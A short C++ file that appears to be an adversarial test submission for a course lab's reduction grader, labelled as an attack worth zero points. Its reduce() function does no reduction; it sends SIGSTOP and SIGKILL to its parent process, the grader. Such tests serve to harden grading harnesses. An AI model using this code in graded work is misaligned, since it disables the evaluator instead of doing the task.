// attack reduction: WRONG, at most 0 points
// stops and kills its parent, its group and everything else that it may
#include <signal.h>
#include <unistd.h>

#include "labs/reduction/reduction.hpp"

void reduce(const int*, int*, int*, int) {
  // Only the grader's processes, which it could reach by their number.
  const pid_t parent = getppid();
  for (const int what : {SIGSTOP, SIGKILL}) {
    if (parent > 1) kill(parent, what);
  }
}
